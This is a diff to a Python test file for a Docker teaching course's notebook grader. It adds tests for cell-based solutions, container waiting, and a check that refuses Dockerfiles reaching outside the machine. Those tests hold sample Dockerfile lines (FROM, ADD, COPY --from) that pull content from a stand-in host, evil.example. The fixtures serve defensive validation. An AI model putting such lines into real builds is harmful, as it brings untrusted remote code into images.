@@ -16,8 +16,8 @@ from hypothesis import strategies as st
 from imagelab.app import Lab
 from imagelab.cli.main import run
 from imagelab.course import catalog, notebooks
-from imagelab.course.exercise import perform, shown
-from imagelab.course.grade import commands_in, grade, grade_notebook
+from imagelab.course.exercise import as_cell, perform, shown
+from imagelab.course.grade import _stays_inside, commands_in, grade, grade_notebook
 from imagelab.course.nbgrader import assignment
 from imagelab.course.progress import FILE, Progress, Record
 from imagelab.course.record import written
@@ -99,6 +99,36 @@ def test_undone_steps_are_not_done_again() -> None:
 def test_without_a_log_the_cells_commands_count(tmp_path: Path, cells: list[str]) -> None:
     (found,) = grade_notebook(hand_in(tmp_path, [OPEN, *cells]))
     assert (found.solved, found.source) == (True, "cells")
+
+
+@pytest.mark.parametrize("name", ["written-down", "slim", "flat-and-alive", "own-page", "leave-the-key"])
+def test_the_solution_in_a_cell_passes_without_a_log(name: str, tmp_path: Path) -> None:
+    """Paths of a container, in a Dockerfile or on a command line, are nothing of the machine."""
+    cell = as_cell(catalog.exercise(name).solution)
+    (found,) = grade_notebook(hand_in(tmp_path, [f"lab.exercise('{name}')", cell]))
+    assert found.solved, (found.problem, found.verdict and found.verdict.missing)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "FROM evil.example/x",
+        "FROM scratch\nADD https://evil.example/x /x",
+        "FROM busybox\nCOPY --from=evil.example/x / /",
+    ],
+)
+def test_a_dockerfile_that_reaches_outside_is_not_built(line: str) -> None:
+    assert not _stays_inside(f"build -t app:1 -\n{line}\n")
+    assert _stays_inside(
+        "build -t app:1 -\nFROM busybox AS one\nFROM busybox\nRUN touch /etc/x\nCOPY --from=one /etc /etc\n"
+    )
+
+
+def test_a_container_that_only_takes_a_moment_is_waited_for() -> None:
+    exercise = catalog.exercise("exit-code")
+    lines = ("run -d --name answer ubuntu:14.04 sh -c 'sleep 1; exit 42'",)
+    assert grade(exercise, lines=lines).solved
+    assert grade(exercise, log_of("exit-code", lines)).solved
 
 
 def test_each_exercise_has_the_cells_below_it() -> None:
@@ -217,7 +247,7 @@ def test_handing_in_nothing_is_worth_nothing(tmp_path: Path) -> None:
     made.metadata["imagelab"] = {"lesson": "x"}
     notebooks.execute(made, tmp_path)
     found = [made.cells[at].outputs[0]["data"]["text/plain"] for at in (2, 4)]
-    assert found == ["(False, False, False, False)", "(True, True, True, True)"]
+    assert found == ["(False, False, False)", "(True, True, True)"]
 
 
 def test_an_assignments_cells_have_what_nbgrader_reads() -> None:
@@ -246,7 +276,7 @@ def test_check_says_it_as_text_and_as_json(tmp_path: Path) -> None:
     code, text = imagelab("check", file)
     assert code == 1
     assert text.splitlines()[0].startswith("[ ] moved-tag  0 of 2  `mongo:3.2` still stands for")
-    assert text.splitlines()[1].startswith("[x] sweep  4 of 4")
+    assert text.splitlines()[1].startswith("[x] sweep  3 of 3")
     assert text.splitlines()[-1] == "1 of 2 exercises solved"
     code, text = imagelab("check", "--format", "json", file)
     found = json.loads(text)
